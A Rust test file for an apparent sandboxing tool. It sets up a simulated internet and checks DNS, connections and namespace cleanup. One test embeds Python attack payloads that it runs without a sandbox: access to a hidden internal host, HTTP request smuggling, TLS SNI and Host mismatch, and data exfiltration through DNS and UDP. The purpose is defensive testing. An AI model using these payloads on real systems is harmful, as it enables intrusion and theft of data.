//! The internet that the other tests stand on: clients of the host reach its servers, without any sandbox.

use crate::{ground::Ground, tls};
use std::{
    env, fs,
    io::{BufRead as _, BufReader, Write as _},
    net::TcpStream,
    process::{Command, Stdio},
    thread,
};
use support::{
    Who, World, eventually,
    internet::{HIDDEN, Internet, WEB, WEB_V4, installed},
    stdout,
};

const ASK: &str = "import socket; print(sorted({a[4][0] for a in socket.getaddrinfo('www.example.com', 80)}))";

#[test]
fn names_have_the_addresses_of_the_test() {
    let Some(internet) = Internet::new().filter(|_| installed("python3")) else { return };
    for who in Who::all() {
        let world = World::new(who);
        internet.name(WEB, &[WEB_V4]);
        assert_eq!(stdout(internet.command(&world, "python3").args(["-c", ASK])).trim(), format!("['{WEB_V4}']"));
        // More than a datagram holds: the client asks again, by TCP.
        let many: Vec<String> = (1..=60).map(|last| format!("8.8.8.{last}")).collect();
        internet.name(WEB, &many.iter().map(String::as_str).collect::<Vec<_>>());
        assert_eq!(stdout(internet.command(&world, "python3").args(["-c", ASK])).matches("8.8.8.").count(), 60);
        assert!(internet.queries().iter().any(|query| query.tcp && query.name == WEB));
        internet.name_in_turn(WEB, &[&["8.8.8.8"], &["9.9.9.9"]]);
        for address in ["8.8.8.8", "9.9.9.9", "9.9.9.9"] {
            assert!(stdout(internet.command(&world, "python3").args(["-c", ASK])).contains(address));
        }
        let unknown = ASK.replace(WEB, "unknown.example.com");
        let output = internet.command(&world, "python3").args(["-c", &unknown]).output().unwrap();
        assert!(String::from_utf8_lossy(&output.stderr).contains("Name or service not known"));
    }
}

#[test]
fn every_address_is_the_tests_own() {
    let Some(internet) = Internet::new() else { return };
    internet.serve("1.2.3.4:5", |mut stream| {
        let _ = stream.write_all(b"five");
    });
    internet.serve("[2001:4860:4860::8888]:5", |mut stream: TcpStream| {
        let _ = stream.write_all(b"six");
    });
    let datagrams = internet.datagrams("1.2.3.4:7");
    for who in Who::all() {
        let world = World::new(who);
        let ask = |address: &str| {
            let script = format!("import socket; print(socket.create_connection(('{address}', 5)).recv(9))");
            internet.command(&world, "python3").args(["-c", &script]).output().unwrap()
        };
        assert_eq!(ask("1.2.3.4").stdout, b"b'five'\n");
        assert_eq!(ask("2001:4860:4860::8888").stdout, b"b'six'\n");
        assert!(String::from_utf8_lossy(&ask("1.2.3.5").stderr).contains("refused"));
        let script = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'seven', ('1.2.3.4', 7))";
        let _ = stdout(internet.command(&world, "python3").args(["-c", script]));
        let mut packet = [0; 9];
        assert_eq!(datagrams.recv(&mut packet).unwrap(), 5);
    }
}

/// Or else the tests of attacks would show nothing.
#[test]
fn attacks_succeed_where_there_is_no_sandbox() {
    for ground in Ground::all() {
        let canary = ground.canary("10.0.0.7:81");
        let datagrams = ground.internet.datagrams("8.8.8.8:53");
        ground.internet.name("inward.example.com", &["10.0.0.7"]);
        let script = r#"
works()
for request in get(HIDDEN), get(HIDDEN, "http://" + HIDDEN + "/hello"), get(WEB, "http://" + HIDDEN + "/hello"):
    assert b"Hello from hidden" in ask(WEB, 80, request, end=True), request
smuggled = f"POST /live/head HTTP/1.1\r\nHost: {WEB}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
assert b"Hello from hidden" in ask(WEB, 80, smuggled + get(HIDDEN))
for how, cut in CUTS.items():
    for protocols in ["http/1.1"], MANY, TOO_MANY:
        if how != "bytes" or len(protocols) == 1:
            assert b"Hello from hidden" in secure(WEB, 443, HIDDEN, get(HIDDEN), cut, protocols), how
assert b"Hello from hidden" in secure(WEB, 443, WEB, get(HIDDEN))
assert b" 421 " in secure(WEB, 443, None, get("x"))
assert b"canary" in ask("inward.example.com", 81, get("x"))
assert b"hidden" in subprocess.check_output(["curl", "-sSfL", f"https://{WEB}/to-another-host"])
assert lookup([b"secret", b"example", b"com"])[0] == 3
socket.socket(type=socket.SOCK_DGRAM).sendto(b"data", ("8.8.8.8", 53))
"#;
        ground.outside(&format!("{}\n{script}", tls::TOOLS));
        assert_eq!(canary.count(), 1);
        assert_eq!(datagrams.recv(&mut [0; 9]).unwrap(), 4);
        assert!(ground.internet.queries().iter().any(|query| query.name == "secret.example.com"));
        assert!(ground.internet.requests().iter().any(|line| line.starts_with(HIDDEN)));
    }
}

/// Set for a process that this test starts: itself, to be killed.
const INNER: &str = "AGENTKERNEL_TEST_INNER";

#[test]
fn all_of_it_ends_with_the_test_even_if_that_is_killed() {
    let network = |internet: &Internet| {
        let world = World::new(Who::Me);
        stdout(internet.command(&world, "readlink").arg("/proc/self/ns/net"))
    };
    let users = |network: &str| {
        let all = fs::read_dir("/proc").unwrap().flatten();
        all.filter(|entry| {
            fs::read_link(entry.path().join("ns/net")).is_ok_and(|link| link.to_str() == Some(network.trim()))
        })
        .count()
    };
    let Some(internet) = Internet::new() else { return };
    let own = network(&internet);
    if installed("redis-server") {
        internet.redis();
        assert!(users(&own) >= 2);
    }
    if env::var_os(INNER).is_some() {
        println!("network={} {}", own.trim(), internet.path("").display());
        loop {
            thread::park();
        }
    }
    let name = "internet_itself::all_of_it_ends_with_the_test_even_if_that_is_killed";
    let mut inner = Command::new(env::current_exe().unwrap());
    inner.args(["--exact", name, "--nocapture"]).env(INNER, "1").stdout(Stdio::piped());
    let mut inner = inner.spawn().unwrap();
    let lines = BufReader::new(inner.stdout.take().unwrap()).lines().map_while(Result::ok);
    let other = lines.filter_map(|line| Some(line.split_once("network=")?.1.to_owned())).next().unwrap();
    let (other, folder) = other.split_once(' ').unwrap();
    assert!(own.trim() != other && users(other) >= 1);
    inner.kill().unwrap();
    inner.wait().unwrap();
    eventually("nothing is left of a killed test", || users(other) == 0);
    fs::remove_dir_all(folder).unwrap();
    drop(internet);
    eventually("nothing is left of an internet", || users(&own) == 0);
}
